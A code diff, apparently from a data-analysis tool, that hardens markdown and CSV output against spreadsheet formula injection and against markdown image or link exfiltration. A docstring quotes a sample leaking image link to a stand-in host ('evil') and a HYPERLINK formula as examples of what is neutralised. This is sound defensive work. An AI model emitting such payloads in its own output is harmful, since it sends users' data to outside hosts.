@@ -25,7 +25,8 @@ if TYPE_CHECKING:
 MAX_JSON_ROWS = 500
 MAX_DISPLAY_ROWS = 500
 FRACTION_COLUMN = re.compile(r"share|rate|margin|pct|prob|ratio|fraction|p_alive", re.IGNORECASE)
-FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
+FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
+MAX_LISTED_COLUMNS = 30  # a 1,000-column file lists this many unused columns, then a count
 
 
 def kind_name(kind: str, lang: Lang) -> str:
@@ -70,7 +71,11 @@ def render_file_outcome(outcome: FileOutcome, lang: Lang) -> str:
         "",
     ]
     if r.unmapped:
-        lines.append(T.FILE_UNMAPPED.get(lang).format(columns=", ".join(map(_md, r.unmapped))))
+        listed = ", ".join(map(_md, r.unmapped[:MAX_LISTED_COLUMNS]))
+        if len(r.unmapped) > MAX_LISTED_COLUMNS:
+            more = len(r.unmapped) - MAX_LISTED_COLUMNS
+            listed += f" … (+{more:,})" if lang == "en" else f" …（另 {more:,} 列）"
+        lines.append(T.FILE_UNMAPPED.get(lang).format(columns=listed))
     for d in r.dropped:
         rows = (
             f" ({', '.join(map(str, d.rows[:20]))}{'…' if d.count > len(d.rows[:20]) else ''})"
@@ -88,7 +93,7 @@ def render_file_outcome(outcome: FileOutcome, lang: Lang) -> str:
         )
     lines.append("")
     lines.append(T.FILE_CORRECT_HINT.get(lang))
-    return "\n".join(lines)
+    return inert_markdown("\n".join(lines))
 
 
 def step_text(run: ToolRun, lang: Lang) -> str:
@@ -131,15 +136,39 @@ def _has_tabulate() -> bool:
 
 
 def escape_cell(value: Any) -> Any:
-    """Make spreadsheet formula text inert: '=HYPERLINK(..)' -> "'=HYPERLINK(..)" (OWASP CSV injection)."""
-    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
+    """Make spreadsheet formula text inert: '=HYPERLINK(..)' -> "'=HYPERLINK(..)" (OWASP CSV injection).
+
+    Leading spaces do not protect a formula in every spreadsheet, so ' =1+1' is escaped too.
+    """
+    if isinstance(value, str) and value.lstrip(" ").startswith(FORMULA_PREFIXES):
         return "'" + value
     return value
+
+
+def inert_markdown(text: str) -> str:
+    """Markdown whose data-derived parts cannot load or link anything: images and inline links from
+    uploaded text or a model's reply ('![x](http://evil/?leak)') are shown as plain text."""
+    return text.replace("![", "!\\[").replace("](", "]\\(")
+
+
+class InertStream:
+    """``inert_markdown`` over a token stream (a '!' or ']' at a chunk's end waits for the next)."""
+
+    def __init__(self, sink: Any) -> None:
+        self.sink, self.pending = sink, ""
+
+    def __call__(self, token: str) -> None:
+        text, self.pending = self.pending + token, ""
+        if token and text[-1:] in ("!", "]"):
+            text, self.pending = text[:-1], text[-1]
+        if text or not token:
+            self.sink(inert_markdown(text))
 
 
 def table_csv(table: Table) -> bytes:
     """The full table as UTF-8 CSV (with BOM, so Excel reads Chinese), formula-like text escaped."""
     frame = table.frame.copy()
+    frame.columns = [escape_cell(str(c)) for c in frame.columns]
     for col in frame.columns:
         if not (
             pd.api.types.is_numeric_dtype(frame[col]) or pd.api.types.is_datetime64_any_dtype(frame[col])
@@ -242,6 +271,8 @@ def answer_to_json(answer: Answer, full: bool = False) -> dict[str, Any]:
     return out
 
 
-def _md(text: object) -> str:
-    """Escape a data-derived string for a markdown table cell."""
-    return str(text).replace("|", "\\|").replace("\n", " ")
+def _md(text: object, limit: int = 200) -> str:
+    """Escape a data-derived string for a markdown table cell (one line, at most ``limit`` characters)."""
+    text = str(text)
+    text = text if len(text) <= limit else text[: limit - 1] + "…"
+    return text.replace("\\", "\\\\").replace("|", "\\|").replace("\r", " ").replace("\n", " ")
